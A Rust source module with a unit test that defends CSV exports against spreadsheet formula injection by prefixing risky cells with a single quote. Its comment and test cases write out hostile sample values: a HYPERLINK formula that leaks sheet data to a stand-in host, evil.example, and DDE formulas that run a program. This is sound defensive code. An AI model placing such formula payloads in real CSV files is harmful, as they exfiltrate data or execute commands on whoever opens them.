//! Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is neutralised.
//!
//! For: every CSV faralink writes for people to open (`export`, and any other CSV output).
//! Not for: JSON, SQLite or Markdown, which carry values as data and must keep them exact.
//!
//! Why: every text field faralink stores was written by someone else (a registrant's name in
//! DOJ's files, a takedown summary scraped from a newsroom page). A cell that starts with `=`,
//! `+`, `-` or `@` is a formula to Excel, LibreOffice and Google Sheets
//! (`=HYPERLINK("http://evil.example/?"&A1,"click")` leaks the sheet; DDE formulas such as
//! `=cmd|' /C calc'!A0` run programs); tab and carriage return at the start are read the same
//! way by some of them. OWASP's advice, followed here: prefix such a cell with a single quote,
//! which spreadsheets show as text and do not display. Numbers are not text and pass as they
//! are (a negative fee stays `-5`).

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a CSV cell that a spreadsheet shows as text: a leading `'` when it would
/// otherwise be read as a formula, else unchanged (and not copied).
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn formulas_are_neutralised_and_plain_text_is_untouched() {
        for (raw, want) in [
            (
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "'=HYPERLINK(\"http://evil.example\",\"x\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("CLS Strategies", "CLS Strategies"),
            ("<script>alert(1)</script>", "<script>alert(1)</script>"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(cell(raw), want, "{raw:?}");
        }
    }
}
